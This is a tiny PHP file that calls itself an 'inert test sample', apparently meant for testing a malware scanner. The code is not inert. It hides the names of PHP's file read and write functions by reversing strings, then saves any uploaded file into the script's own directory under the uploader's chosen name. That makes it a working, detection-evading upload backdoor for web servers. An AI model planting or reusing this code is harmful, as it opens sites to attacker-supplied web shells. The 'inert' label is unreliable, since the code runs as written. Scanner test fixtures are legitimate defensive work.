<?php
// inert test sample: the same upload-by-copying, the function names kept reversed
$rd = strrev('stnetnoc_teg_elif');
$wr = strrev('stnetnoc_tup_elif');
$up = $_FILES['x'];
$wr(__DIR__ . '/' . basename($up['name']), $rd($up['tmp_name']));
